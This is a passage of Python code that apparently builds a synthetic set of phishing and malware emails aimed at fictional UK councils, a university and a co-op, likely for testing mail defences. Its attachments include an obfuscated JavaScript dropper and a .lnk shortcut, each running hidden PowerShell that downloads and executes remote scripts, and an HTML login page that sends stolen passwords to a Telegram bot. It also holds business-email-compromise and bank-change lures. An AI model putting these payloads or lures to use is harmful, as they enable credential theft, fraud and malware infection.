    helo="mx.westmere-finance.co.uk", spf="pass", dkim=[("westmere-finance.co.uk", "k1", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('c6m', 18, DIGITS)}.{tok('c6n', 6, HEX)}@westmere-finance.co.uk>",
    body=mixed(php_b("c6"),
               html_only("<p>Hello,</p><p>Please find attached the remittance advice for payment REF 00078812 "
                         "(GBP 1,240.00) processed to your account today.</p><p>Kind regards,<br>Accounts Payable"
                         "<br>Westmere University Finance Office</p>\n"),
               attachment("text/html", "Remittance_Advice_00078812.html",
                          f"<script language=\"javascript\">document.write(unescape('{pct_escape(_remit_inner)}'));"
                          f"</script>\n".encode())))

_teams = f"https://teams.westmere-ac-uk.org/l/meetup-join/19%3ameeting_{tok('c7j', 40, ALNUM)}%40thread.v2/0?context=%7b%22Tid%22%3a%22{tok('c7t', 8, HEX)}%22%7d"
_wam = f"https://westmere-ac-uk.org/sites/ling/WAM2025-26.xlsx?login_hint={RUTH}"
_ics = ics(f"040000008200E00074C5B7101A82E008000000{tok('c7u', 32, HEX).upper()}", ("Ling Dept Admin", "ling-office@westmere-ac-uk.org"),
           RUTH, "Staff Meeting - Workload Allocation 2025/26", "20250305T140000", "20250305T150000",
           "Microsoft Teams Meeting",
           f"Please review the draft workload allocation before the meeting: {_wam}\nJoin: {_teams}", "20250303T091500Z")
add(slug="calendar-invite-lookalike-workload", cat="phishing", kind="phish", site="westmere", rcpt=RUTH,
    desc="Calendar invitation from the lookalike westmere-ac-uk.org (own auth pass) for a staff meeting; the 'workload "
         "allocation' spreadsheet and Teams join links go to a credential page on the lookalike with her login hint.",
    date="2025-03-03 09:15:02 +0000", from_=("Ling Dept Admin", "ling-office@westmere-ac-uk.org"), to=RUTH,
    subject="Updated invitation: Staff Meeting - Workload Allocation 2025/26 @ Wed 5 Mar 2025 14:00 - 15:00 (GMT)",
    mailfrom="ling-office@westmere-ac-uk.org", ip="5.181.159.37", rdns="mail.westmere-ac-uk.org",
    helo="mail.westmere-ac-uk.org", spf="pass", dkim=[("westmere-ac-uk.org", "mail", "pass")], dmarc=("pass", "none"),
    msgid=f"<{tok('c7m', 30, HEX)}@westmere-ac-uk.org>",
    body=mixed(outlook_b("c7"),
               Multi("alternative", outlook_b("c7a"), [
                   text("Staff Meeting - Workload Allocation 2025/26\nWed 5 Mar 2025 14:00-15:00\n\nPlease review the "
                        f"draft workload allocation before the meeting:\n{_wam}\n\nMicrosoft Teams meeting\nJoin: {_teams}\n"),
                   text(outlook_html(["<b>Staff Meeting - Workload Allocation 2025/26</b>", "Wed 5 Mar 2025 14:00-15:00",
                                      "", "Please review the draft workload allocation before the meeting:",
                                      f'<a href="{_wam}">WAM 2025-26 (draft).xlsx</a>', "",
                                      "________________________________________________________________",
                                      "<b>Microsoft Teams</b> meeting",
                                      f'<a href="{_teams}">Join the meeting now</a>']), "html"),
                   Leaf("text/calendar", _ics, "base64", '; charset="utf-8"; method=REQUEST')]),
               attachment("application/ics", "invite.ics", _ics)))


# ==========================================================================
# ATTACKS - Ashcombe Town Council, ashcombe-tc.gov.uk (IONOS)
# ==========================================================================

_vm_meta = f"https://vm-audio-playback.com/play/?id=vm{tok('d1id', 6, DIGITS)}#{b64(CLERK)}"
add(slug="voicemail-htm-meta-refresh-own-domain", cat="phishing", kind="phish", site="ashcombe", rcpt=CLERK,
    desc="Spoof of 'Voicemail System <voicemail@ashcombe-tc.gov.uk>' (own domain, SPF fail, DMARC fail p=reject, "
         "held in spam) with a .htm 'recording' that meta-refreshes to a phishing page carrying her address in base64.",
    date="2025-02-26 10:47:31 +0000", from_=("Voicemail System", "voicemail@ashcombe-tc.gov.uk"), to=CLERK,
    subject="Voicemail from 01632 960481 <01632960481> (duration 00:01:12)",
    mailfrom="voicemail@ashcombe-tc.gov.uk", ip="80.94.95.181", rdns=None, helo="ashcombe-tc.gov.uk",
    spf="fail", dkim=[], dmarc=("fail", "reject"), msgid=f"<{tok('d1m', 22, HEX)}@ashcombe-tc.gov.uk>",
    body=mixed(next_b("d1"),
               html_only('<table style="font-family:Arial;font-size:13px;border:1px solid #ccc;" cellpadding="6">'
                         '<tr><td colspan="2" style="background:#2f5597;color:#fff;font-weight:bold;">New Voicemail Message'
                         '</td></tr><tr><td>From:</td><td>01632 960481</td></tr><tr><td>To:</td><td>clerk@ashcombe-tc.gov.uk'
                         '</td></tr><tr><td>Duration:</td><td>00:01:12</td></tr><tr><td>Received:</td><td>26/02/2025 10:46'
                         '</td></tr><tr><td colspan="2">Open the attached audio file to listen to the message.</td></tr></table>\n'),
               attachment("text/html", "VM_01632960481_0112.htm",
                          (f'<html><head><meta http-equiv="refresh" content="0; url={_vm_meta}">'
                           '<title>Voice Message</title></head><body style="font-family:Arial">Loading voice message '
                           '(00:01:12)...</body></html>\n').encode())))

_sp_folder = (f"https://ellisarchitectsltd-my.sharepoint.com/:f:/g/personal/mark_ellisarchitects_co_uk/"
              f"E{tok('d2f', 45, URLCH)}?e={tok('d2e', 6, ALNUM)}")
add(slug="sharepoint-genuine-share-architect", cat="phishing", kind="phish", site="ashcombe", rcpt=CLERK,
    desc="Genuine SharePoint sharing notification (sharepointonline.com, auth pass) from a compromised architect's "
         "Microsoft 365 account about 'revised planning drawings'; the shared folder holds a document linking to a "
         "credential page.",
    date="2025-05-13 15:22:06 +0000", from_=("Mark Ellis", "no-reply@sharepointonline.com"), to=CLERK,
    subject='Mark Ellis shared the folder "Planning Application 24-0193 Revised Drawings" with you',
    mailfrom="no-reply@sharepointonline.com", ip="40.107.22.75",
    rdns="mail-am6eur05on2075.outbound.protection.outlook.com", helo="EUR05-AM6-obe.outbound.protection.outlook.com",
    spf="pass", dkim=[("sharepointonline.com", "selector1", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('d2m', 8, HEX)}-{tok('d2n', 4, HEX)}-{tok('d2o', 4, HEX)}-{tok('d2p', 4, HEX)}-{tok('d2q', 12, HEX)}@odspnotify>",
    extra=["X-MS-Exchange-Organization-SCL: 1", "X-Sharing-Notification: 1"],
    body=alt(outlook_b("d2"),
             "Mark Ellis shared a folder with you\n\n\"Hi Sarah, revised drawings for 24/0193 attached ahead of "
             "Tuesday's planning committee. The site plan has changed on the north boundary. Mark\"\n\n"
             f"Planning Application 24-0193 Revised Drawings\n{_sp_folder}\n\nThis link will work for anyone.\n\n"
             "Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n",
             page('<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px;">'
                  '<table width="520" style="background:#fff;" cellpadding="0" cellspacing="0"><tr><td style="padding:24px;">'
                  '<p style="font-size:21px;color:#323130;">Mark Ellis shared a folder with you</p>'
                  '<p style="font-size:14px;color:#605e5c;border-left:3px solid #0078d4;padding-left:10px;">Hi Sarah, '
                  "revised drawings for 24/0193 attached ahead of Tuesday's planning committee. The site plan has "
                  'changed on the north boundary. Mark</p>'
                  f'<p><a href="{_sp_folder}" style="font-size:16px;color:#0078d4;text-decoration:none;">'
                  '&#128193; Planning Application 24-0193 Revised Drawings</a></p>'
                  f'<p><a href="{_sp_folder}" style="background:#0078d4;color:#fff;padding:9px 20px;text-decoration:none;">Open</a></p>'
                  '<p style="font-size:11px;color:#a19f9d;">This link will work for anyone. Microsoft respects your '
                  'privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></td></tr></table>'
                  '</td></tr></table>', bg="#f3f2f1")))

add(slug="mayor-gmail-urgent-payment-bec", cat="phishing", kind="phish", site="ashcombe", rcpt=CLERK,
    desc="Gmail account with the Town Mayor's name asks the clerk whether she is at her desk to process an urgent "
         "payment while the mayor is 'at the county conference'; BEC opener with no link.",
    date="2025-06-05 08:31:15 +0100", from_=("Cllr Janet Morris", "cllr.janetmorris.ashcombe@gmail.com"), to=CLERK,
    subject="Request",
    mailfrom="cllr.janetmorris.ashcombe@gmail.com", ip="209.85.221.47", rdns="mail-wr1-f47.google.com",
    helo="mail-wr1-f47.google.com", spf="pass", dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"),
    msgid=f"<CAE{tok('d3m', 44, URLCH)}@mail.gmail.com>",
    hops=[gmail_hop("2002:adf:e9c2:0:b0:3a4:e6b1:22f0", CLERK, "d3h")],
    body=alt(gmail_b("d3"),
             "Sarah,\n\nAre you at your desk? I need you to process an urgent payment for me today. I'm at the county "
             "conference all day and can only use email, calls are not possible.\n\nLet me know and I will send you "
             "the details. Please keep this between us for now.\n\nJanet\n\nSent from my iPhone\n",
             gmail_html(["Sarah,", "", "Are you at your desk? I need you to process an urgent payment for me today. "
                         "I'm at the county conference all day and can only use email, calls are not possible.", "",
                         "Let me know and I will send you the details. Please keep this between us for now.", "",
                         "Janet", "", "Sent from my iPhone"])))

_bank_letter = files.pdf(["GREENACRE GROUNDS MAINTENANCE LTD", "Unit 7, Forge Lane Business Park, Ashcombe AC4 2JT",
                          "", "NOTICE OF CHANGE OF BANK DETAILS", "", "Date: 3 March 2025", "",
                          "To: Ashcombe Town Council - Accounts", "",
                          "Please note that with effect from today our business account has moved.",
                          "All future payments, including invoice GGM-2291, should be made to:", "",
                          "Bank: Monzo Business", "Account name: Greenacre Grounds Maintenance",
                          "Sort code: 04-00-75   Account number: 41983027", "",
                          "Payments made to the old account will be returned and may incur late charges.", "",
                          "Yours faithfully,", "Paul Greenacre, Director"], title="Bank change notice")
add(slug="grounds-contractor-bank-change-lookalike", cat="phishing", kind="phish", site="ashcombe", rcpt=FINANCE,
    desc="Lookalike of the council's grounds contractor (greenacre-grounds.co.uk vs greenacregrounds.co.uk, own auth "
         "pass) announces new bank details with a PDF letter before invoice GGM-2291 is paid; payment diversion, no link.",
    date="2025-03-03 12:18:40 +0000", from_=("Greenacre Grounds Maintenance", "accounts@greenacre-grounds.co.uk"),
    to=FINANCE, subject="Change of bank details - Greenacre Grounds Maintenance Ltd",
    mailfrom="accounts@greenacre-grounds.co.uk", ip="5.252.178.16", rdns="mail.greenacre-grounds.co.uk",
    helo="mail.greenacre-grounds.co.uk", spf="pass", dkim=[("greenacre-grounds.co.uk", "default", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('d4m', 26, HEX)}@greenacre-grounds.co.uk>",
    extra=["User-Agent: Roundcube Webmail/1.6.6"],
    body=mixed(php_b("d4"),
               plain("Dear Finance Officer,\n\nPlease find attached a letter confirming our new bank details. Our "
                     "previous account is being closed following a change of bank, so please update your supplier "
                     "records before paying invoice GGM-2291 (£1,860.00) which is due this week.\n\nCould you confirm "
                     "once the change has been made? I'm out on site most of the day so email is best.\n\n"
                     "Kind regards,\nPaul Greenacre\nGreenacre Grounds Maintenance Ltd\n"),
               attachment("application/pdf", "Greenacre_Bank_Change_Notice.pdf", _bank_letter)))

_js = T("""var _0x3f1a=["\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2E\\x53\\x68\\x65\\x6C\\x6C","\\x52\\x75\\x6E","\\x25\\x54\\x45\\x4D\\x50\\x25"];
// Tender documentation viewer v2.3 - Wessex Play Solutions
function _0xv(a){var s="";for(var i=0;i<a.length;i+=2){s+=String.fromCharCode(parseInt(a.substr(i,2),16)^0x2a);}return s;}
var sh=new ActiveXObject(_0x3f1a[0]);
var p=sh.ExpandEnvironmentStrings(_0x3f1a[2])+"\\\\tp{{n}}.ps1";
var c="powershell -w hidden -ep bypass -c \\"$w=New-Object Net.WebClient;$w.DownloadFile('http://{{ip}}/tender/ld.ps1','"+p+"');& '"+p+"'\\"";
sh[_0x3f1a[1]](c,0,false);
WScript.Echo("The document could not be opened. The file may be damaged.");
""", n=tok("d5n", 4, DIGITS), ip="194.26.192.84")
add(slug="play-area-tender-zip-js", cat="malware", kind="phish", site="ashcombe", rcpt=CLERK,
    desc="Compromised mailbox of a play-equipment supplier (auth pass) replies about the play-area tender with a ZIP "
         "holding 'Tender_Pack_ATC-2025-03.pdf.js', a WScript dropper that runs hidden PowerShell.",
    date="2025-04-02 14:55:19 +0100", from_=("Wessex Play Solutions - Tenders", "tenders@wessexplaysolutions.co.uk"),
    to=CLERK, subject="RE: Play area refurbishment - tender pack & quotation",
    mailfrom="tenders@wessexplaysolutions.co.uk", ip="40.107.23.112",
    rdns="mail-am6eur05on2112.outbound.protection.outlook.com", helo="EUR05-AM6-obe.outbound.protection.outlook.com",
    spf="pass", dkim=[("wessexplaysolutions.co.uk", "selector1", "pass")], dmarc=("pass", "quarantine"),
    msgid=f"<LO2P265MB{tok('d5m', 4, DIGITS)}{tok('d5x', 20, UPNUM)}@LO2P265MB{tok('d5m', 4, DIGITS)}.GBRP265.PROD.OUTLOOK.COM>",
    extra=[f"In-Reply-To: <{tok('d5r', 24, HEX)}@ashcombe-tc.gov.uk>", f"References: <{tok('d5r', 24, HEX)}@ashcombe-tc.gov.uk>"],
    body=mixed(outlook_b("d5"),
               plain("Hi Sarah,\n\nThanks for your patience. Please find our tender pack and itemised quotation for the "
                     "Millfield play area refurbishment attached (zipped as the drawings are large).\n\nAny questions "
                     "just let me know.\n\nBest regards\nLiam Carter\nWessex Play Solutions Ltd\n"),
               attachment("application/zip", "Tender_Pack_ATC-2025-03.zip",
                          files.zip_archive([("Tender_Pack_ATC-2025-03.pdf.js", _js.encode())]))))

_dmarc_zip_html = T("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>DMARC Aggregate Report</title></head>
<body style="font-family:Roboto,Arial;background:#f8f9fa">
<div style="width:420px;margin:60px auto;background:#fff;padding:32px;border:1px solid #dadce0;border-radius:8px">
<h3 style="font-weight:400">DMARC aggregate report: {{domain}}</h3>
<p style="color:#5f6368;font-size:14px">Report ID 13926645197416209321 contains 41 records with failures. Confirm the
domain administrator account to decrypt the report.</p>
<form method="post" action="https://thefloristbox.co.za/wp-includes/ID3/dm/post.php">
<input name="u" value="{{email}}" style="width:100%;padding:10px;margin:6px 0" readonly>
<input name="p" type="password" placeholder="Email password" style="width:100%;padding:10px;margin:6px 0">
<button style="background:#1a73e8;color:#fff;border:0;padding:10px 24px;border-radius:4px">View report</button>
</form></div></body></html>""", domain="ashcombe-tc.gov.uk", email=CLERK)
_dmarc_name = "google.com!ashcombe-tc.gov.uk!1738368000!1738454399"
add(slug="fake-dmarc-aggregate-zip-html", cat="phishing", kind="phish", site="ashcombe", rcpt=CLERK,
    desc="Imitation of a Google DMARC aggregate report from a lookalike domain (own auth pass); the zip is named like "
         "a real report but holds an HTML login form, pre-filled with the clerk's address, posting to a hacked site.",
    date="2025-02-02 04:12:08 -0800", from_=("noreply-dmarc-support", "noreply-dmarc-support@google-dmarc-reports.com"),
    to=CLERK, subject="Report domain: ashcombe-tc.gov.uk Submitter: google.com Report-ID: 13926645197416209321",
    mailfrom="noreply-dmarc-support@google-dmarc-reports.com", ip="62.60.131.201", rdns="mail.google-dmarc-reports.com",
    helo="mail.google-dmarc-reports.com", spf="pass", dkim=[("google-dmarc-reports.com", "s1", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('d6m', 20, DIGITS)}@google-dmarc-reports.com>",
    body=mixed(gmail_b("d6"),
               plain("This is an aggregate report from google.com.\n\n41 records with DMARC failures were found for "
                     "ashcombe-tc.gov.uk. Open the attached report in your browser to review.\n"),
               attachment("application/zip", f"{_dmarc_name}.zip",
                          files.zip_archive([(f"{_dmarc_name}.html", _dmarc_zip_html.encode())]))))

_adobe_html = T("""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Adobe Acrobat - Shared Document</title>
<style>body{margin:0;font-family:Adobe Clean,Arial;background:url(https://i.ibb.co/3YtR2pC/blur-doc.jpg) center/cover}
.m{width:340px;margin:90px auto;background:#fff;padding:28px;border-radius:6px;box-shadow:0 4px 18px rgba(0,0,0,.35)}
input{width:100%;padding:9px;margin:7px 0;border:1px solid #bbb;border-radius:3px}.b{width:100%;background:#eb1000;color:#fff;padding:10px;border:0;border-radius:16px}</style></head>
<body><div class="m"><img src="https://www.adobe.com/content/dam/cc/icons/Adobe_Corporate_Horizontal_Red_HEX.svg" width="110">
<p style="font-size:14px">Hollowmere Parish Council shared <b>Precept &amp; Grant Allocation 2025-26.pdf</b> (412 KB).<br>Confirm your email to view.</p>
<input id="em" value="{{email}}"><input id="pw" type="password" placeholder="Email password">
<button class="b" onclick="go()">View Document</button><p id="msg" style="color:#c00;font-size:12px"></p></div>
<script>
var tries = 0;
function go() {
  var d = {chat_id: "{{chat}}", text: "ADOBE LOG\\nEmail: " + document.getElementById("em").value + "\\nPass: " + document.getElementById("pw").value};
  fetch("https://api.telegram.org/bot{{bot}}/sendMessage", {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(d)})
    .then(function () {
      tries++;
      if (tries < 2) { document.getElementById("msg").innerText = "Invalid password. Please try again."; }
      else { window.location = "https://acrobat.adobe.com/"; }
    });
}
</script></body></html>
""", email=CLERK, chat=tok("d7c", 10, DIGITS), bot=f"6{tok('d7b', 9, DIGITS)}:AAG{tok('d7k', 32, URLCH)}")
add(slug="adobe-share-html-compromised-parish", cat="phishing", kind="phish", site="ashcombe", rcpt=CLERK,
    desc="Compromised Microsoft 365 mailbox of a neighbouring parish council (auth pass) sends an 'Adobe Acrobat' "
         "shared precept document as an HTML file with the clerk's address pre-filled and a Telegram-bot exfiltration.",
    date="2025-01-30 16:04:52 +0000", from_=("Hollowmere Parish Council", "clerk@hollowmere-pc.gov.uk"),
    to=CLERK, subject="Hollowmere Parish Council shared \"Precept & Grant Allocation 2025-26.pdf\" via Adobe Acrobat",
    mailfrom="clerk@hollowmere-pc.gov.uk", ip="40.107.20.93", rdns="mail-db5eur02on2093.outbound.protection.outlook.com",
    helo="EUR02-DB5-obe.outbound.protection.outlook.com", spf="pass", dkim=[("hollowmere-pc.gov.uk", "selector1", "pass")],
    dmarc=("pass", "reject"),
    msgid=f"<CWLP265MB{tok('d7m', 4, DIGITS)}{tok('d7x', 20, UPNUM)}@CWLP265MB{tok('d7m', 4, DIGITS)}.GBRP265.PROD.OUTLOOK.COM>",
    hops=[outlook_hop(f"CWLP265MB{tok('d7m', 4, DIGITS)}.GBRP265.PROD.OUTLOOK.COM", "d7h")],
    body=mixed(outlook_b("d7"),
               alt(outlook_b("d7a"),
                   "Good afternoon,\n\nPlease see the attached shared document regarding the 2025-26 precept and grant "
                   "allocation for the joint projects.\n\nKind regards\n\nAlison Drew\nClerk & RFO\nHollowmere Parish Council\n",
                   outlook_html(["Good afternoon,", "", "Please see the attached shared document regarding the 2025-26 "
                                 "precept and grant allocation for the joint projects.", "", "Kind regards", "",
                                 "Alison Drew<br>Clerk &amp; RFO<br>Hollowmere Parish Council"])),
               attachment("text/html", "Precept_Grant_2025-26_Adobe.html", _adobe_html.encode())))


# ==========================================================================
# ATTACKS - Riverbend Food Co-operative, riverbendfood.coop (Hostinger)
# ==========================================================================

_hst = f"https://hpanel.hostinger-payments.net/billing/renew?order=HST-{tok('e1o', 8, DIGITS)}&domain=riverbendfood.coop"
add(slug="hostinger-suspension-lookalike", cat="phishing", kind="phish", site="riverbend", rcpt=COOPACC,
    desc="Lookalike hostinger-payments.net (own SPF/DKIM/DMARC pass) says the hosting payment failed and "
         "riverbendfood.coop will be suspended in 24 hours; the 'hPanel' link harvests card and login details.",
    date="2025-08-19 06:28:44 +0000", from_=("Hostinger", "billing@hostinger-payments.net"), to=COOPACC,
    subject="Payment failed: hosting for riverbendfood.coop will be suspended in 24 hours",
    mailfrom="bounce@mail.hostinger-payments.net", ip="147.45.112.66", rdns="mail.hostinger-payments.net",
    helo="mail.hostinger-payments.net", spf="pass", dkim=[("hostinger-payments.net", "hs1", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('e1m', 32, HEX)}@hostinger-payments.net>",
    body=alt(php_b("e1"),
             "Hostinger\n\nWe couldn't process the renewal payment for your Premium Web Hosting plan "
             "(riverbendfood.coop).\n\nYour website and email accounts will be suspended on 20 Aug 2025 unless the "
             f"payment method is updated.\n\nUpdate payment: {_hst}\n\nHostinger International Ltd.\n",
             card("HOSTINGER", "We couldn't renew your hosting",
                  ["Hello,", "The automatic renewal payment for <b>Premium Web Hosting</b> "
                   "(<b>riverbendfood.coop</b>) was declined by your bank.",
                   "Your website and all email accounts will be <b>suspended on 20 Aug 2025</b> unless the payment "
                   "method is updated in hPanel."],
                  label="Update payment method", url=_hst, color="#673de6",
                  foot="Hostinger International Ltd., 61 Lordou Vironos Street, 6023 Larnaca, Cyprus")))

_ds_link = (f"https://na3.docusign.net/Signing/EmailStart.aspx?a={tok('e2a', 8, HEX)}-{tok('e2b', 4, HEX)}-"
            f"{tok('e2c', 4, HEX)}-{tok('e2d', 4, HEX)}-{tok('e2e', 12, HEX)}&etti=24&acct={tok('e2f', 8, HEX)}-"
            f"{tok('e2g', 4, HEX)}-{tok('e2h', 4, HEX)}-{tok('e2i', 4, HEX)}-{tok('e2j', 12, HEX)}&er={tok('e2k', 8, HEX)}-"
            f"{tok('e2l', 4, HEX)}-{tok('e2m', 4, HEX)}-{tok('e2n', 4, HEX)}-{tok('e2o', 12, HEX)}")
add(slug="docusign-genuine-equity-refund", cat="phishing", kind="phish", site="riverbend", rcpt=COOPACC,
    desc="Genuine DocuSign envelope (docusign.net, all auth pass) from an attacker account calling itself 'Riverbend "
         "Member Services'; the 'member equity refund form' asks for bank and login details behind the signing link.",
    date="2025-05-28 19:14:03 +0000", from_=("Riverbend Member Services via Docusign", "dse_NA3@docusign.net"),
    to=COOPACC, subject="Please DocuSign: Riverbend_Member_Equity_Refund_Form.pdf",
    mailfrom="dse_NA3@docusign.net", ip="64.207.219.141", rdns="mailch141.docusign.net", helo="mailch141.docusign.net",
    spf="pass", dkim=[("docusign.net", "s1", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('e2z', 32, HEX)}@docusign.net>", extra=["X-DocuSign-Envelope-Type: standard"],
    body=alt(java_b("e2"),
             "Riverbend Member Services sent you a document to review and sign.\n\nREVIEW DOCUMENT\n"
             f"{_ds_link}\n\nRiverbend Member Services\nmemberservices.riverbend@gmail.com\n\n"
             "Please review the member equity refund form and confirm your bank details for the 2025 refund.\n\n"
             "Do Not Share This Email\nThis email contains a secure link to Docusign. Please do not share this email, "
             "link, or access code with others.\n",
             card("Docusign", "Riverbend Member Services sent you a document to review and sign.",
                  ["Riverbend Member Services<br>memberservices.riverbend@gmail.com",
                   "Please review the member equity refund form and confirm your bank details for the 2025 refund."],
                  label="REVIEW DOCUMENT", url=_ds_link, color="#ffc820",
                  after=["<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do "
                         "not share this email, link, or access code with others."],
                  foot="Powered by Docusign. About Docusign: Sign documents electronically in just minutes.")))

_coop_qr = f"https://pub-{tok('e3r2', 32, HEX)}.r2.dev/verify.html#{b64(COOPACC)}"
add(slug="mailbox-revalidation-qr-inline-own-domain", cat="phishing", kind="phish", site="riverbend", rcpt=COOPACC,
    desc="From header forged as 'Email Administrator <postmaster@riverbendfood.coop>' (no DMARC record on the co-op "
         "domain) over a Vietnamese domain's envelope; the only call to action is an inline QR code to an r2.dev page.",
    date="2025-09-23 02:19:36 +0700", from_=("Email Administrator", "postmaster@riverbendfood.coop"), to=COOPACC,
    subject="accounts@riverbendfood.coop: Mailbox re-validation required (2FA)",
    mailfrom="bounce@nhatrang-travelhub.vn", ip="103.97.125.41", rdns="mail.nhatrang-travelhub.vn",
    helo="mail.nhatrang-travelhub.vn", spf="pass", dkim=[], dmarc=("none", None),
    msgid=f"<{tok('e3m', 28, HEX)}@nhatrang-travelhub.vn>",
    body=Multi("related", php_b("e3"), [
        html_only(page('<div style="max-width:560px;margin:20px auto;background:#fff;padding:26px;border-top:4px solid '
                       '#0f9d58;font-size:14px;color:#333;"><p><b>Mailbox re-validation</b></p>'
                       '<p>Your mailbox <b>accounts@riverbendfood.coop</b> must be re-validated with two-factor '
                       'authentication before <b>25/09/2025</b>. After this date incoming mail will be suspended.</p>'
                       '<p>Scan the QR code with your phone camera to complete validation:</p>'
                       '<p style="text-align:center;"><img src="cid:qr-' + tok("e3cid", 10, HEX) + '@riverbend" '
                       'width="200" height="200" alt="QR"></p>'
                       '<p style="font-size:11px;color:#888;">Email Administrator &middot; riverbendfood.coop</p></div>')),
        attachment("image/png", "qr.png", files.qr_png(_coop_qr), inline=True, cid=f"qr-{tok('e3cid', 10, HEX)}@riverbend")]))

_wt = f"https://we-transfer-download-3kx.pages.dev/downloads/{tok('e4d', 10, HEX)}/?email={COOPINFO}"
add(slug="wetransfer-lookalike-pages", cat="phishing", kind="phish", site="riverbend", rcpt=COOPINFO,
    desc="WeTransfer imitation from the lookalike wetransfer-mail.net (own auth pass) with 'invoices & statements' "
         "from a farm supplier; the download button is a Cloudflare Pages credential page with her address in the URL.",
    date="2025-10-07 12:41:29 +0000", from_=("WeTransfer", "noreply@wetransfer-mail.net"), to=COOPINFO,
    subject="Green Valley Farm sent you Invoices & statements Q3 via WeTransfer",
    mailfrom="noreply@wetransfer-mail.net", ip="185.196.9.204", rdns="mail.wetransfer-mail.net",
    helo="mail.wetransfer-mail.net", spf="pass", dkim=[("wetransfer-mail.net", "wt", "pass")], dmarc=("pass", "none"),
    msgid=f"<{tok('e4m', 24, HEX)}@wetransfer-mail.net>",
    body=html_only(page(
        '<div style="max-width:540px;margin:30px auto;background:#fff;border-radius:10px;padding:34px;text-align:center;">'
        '<div style="font-size:26px;font-weight:bold;color:#17181a;">we<span style="color:#409fff;">transfer</span></div>'
        '<p style="font-size:20px;color:#17181a;">Green Valley Farm<br>sent you some files</p>'
        '<p style="font-size:14px;color:#6a6d70;">3 files &middot; 14.2 MB &middot; Expires in 7 days</p>'
        '<p style="font-size:13px;color:#17181a;">Invoice_Q3_2025.pdf<br>Statement_Sept_2025.pdf<br>Remittance_Riverbend.xlsx</p>'
        '<p style="font-size:14px;color:#17181a;">"Hi, please see attached invoices and statement for Q3. Thanks, Tom"</p>'
        f'<p><a href="{_wt}" style="background:#409fff;color:#fff;padding:13px 38px;border-radius:24px;text-decoration:none;'
        'font-weight:bold;">Get your files</a></p><p style="font-size:11px;color:#9a9da0;">To make sure our emails arrive, '
        'please add noreply@wetransfer.com to your contacts.</p></div>', bg="#f4f4f4", font="Arial,sans-serif")))

_hollins_r2 = f"https://pub-{tok('e5r2', 32, HEX)}.r2.dev/dropbox/invoice.html?id=INV-0891"
add(slug="reply-chain-supplier-compromised-r2", cat="phishing", kind="phish", site="riverbend", rcpt=COOPACC,
    desc="Reply-chain hijack from the compromised Google Workspace mailbox of the co-op's real orchard supplier (auth "
         "pass): quotes the genuine order thread and links 'the updated invoice' to a Dropbox-styled r2.dev page.",
    date="2025-10-02 16:22:13 +0100", from_=("Beth Hollins", "beth@hollinsorchard.co.uk"), to=COOPACC,
    subject="RE: Apple & pear order for w/c 6 Oct",
    mailfrom="beth@hollinsorchard.co.uk", ip="209.85.208.181", rdns="mail-lj1-f181.google.com",
    helo="mail-lj1-f181.google.com", spf="pass", dkim=[("hollinsorchard.co.uk", "google", "pass")],
    dmarc=("pass", "quarantine"), msgid=f"<CAH{tok('e5m', 44, URLCH)}@mail.gmail.com>",
    hops=[gmail_hop("2002:a2e:b8c4:0:b0:30b:c1a2:44e0", COOPACC, "e5h")],
    extra=[f"In-Reply-To: <{tok('e5r', 20, HEX)}@riverbendfood.coop>", f"References: <{tok('e5r', 20, HEX)}@riverbendfood.coop>"],
    body=alt(gmail_b("e5"),
             "Hi Maya,\n\nThanks for confirming. We've moved our invoicing to a new system this month, so please view "
             f"and download the updated invoice for this order here:\n\n{_hollins_r2}\n\nYou'll need to sign in with "
             "your email to access it. Please use the bank details on the new invoice going forward.\n\nBeth\n\n"
             "On Wed, 1 Oct 2025 at 09:14, Riverbend Accounts <accounts@riverbendfood.coop> wrote:\n"
             "> Hi Beth, can we do 12 crates of Cox and 6 of Conference for Monday please? Same as last week.\n> Maya\n",
             gmail_html(["Hi Maya,", "", "Thanks for confirming. We've moved our invoicing to a new system this month, so "
                         "please view and download the updated invoice for this order here:", "",
                         f'<a href="{_hollins_r2}">INV-0891 Riverbend Food Co-op.pdf</a>', "",
                         "You'll need to sign in with your email to access it. Please use the bank details on the new "
                         "invoice going forward.", "", "Beth"])
             + '<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Wed, 1 Oct 2025 at 09:14, Riverbend '
               'Accounts &lt;<a href="mailto:accounts@riverbendfood.coop">accounts@riverbendfood.coop</a>&gt; wrote:<br>'
               '</div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid '
               'rgb(204,204,204);padding-left:1ex">Hi Beth, can we do 12 crates of Cox and 6 of Conference for Monday '
               'please? Same as last week.<br>Maya</blockquote></div>\n'))

_lnk = files.lnk_shortcut(r"C:\Windows\System32\cmd.exe",
                          r'/c start /min powershell -w h -c "iwr http://91.202.233.18/o/s.ps1 -OutFile $env:TEMP\s.ps1;'
                          r'& $env:TEMP\s.ps1" & start Order_Inquiry_RFQ-20250912.pdf')
add(slug="wholesale-inquiry-iso-lnk", cat="malware", kind="phish", site="riverbend", rcpt=COOPINFO,
    desc="Gmail 'wholesale buyer' sends an order inquiry as an ISO image containing a .pdf.lnk shortcut that launches "
         "hidden PowerShell to fetch and run a script.",
    date="2025-09-12 10:06:51 +0400", from_=("Ahmed Rahimi", "ahmed.rahimi.trading@gmail.com"), to=COOPINFO,
    subject="Wholesale order inquiry - organic grains and pulses",
    mailfrom="ahmed.rahimi.trading@gmail.com", ip="209.85.167.45", rdns="mail-lf1-f45.google.com",
    helo="mail-lf1-f45.google.com", spf="pass", dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"),
    msgid=f"<CAN{tok('e6m', 44, URLCH)}@mail.gmail.com>",
